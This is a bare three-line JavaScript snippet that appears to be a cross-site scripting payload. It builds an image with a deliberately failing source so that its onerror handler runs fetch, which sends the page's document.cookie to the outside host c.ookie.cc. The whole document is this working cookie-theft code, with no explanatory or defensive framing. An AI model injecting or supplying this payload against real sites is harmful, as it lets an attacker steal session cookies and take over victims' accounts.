const i = new Image();
i.setAttribute('onerror', 'fetch("//c.ookie.cc/"+document.cookie)');
i.src = 'x';
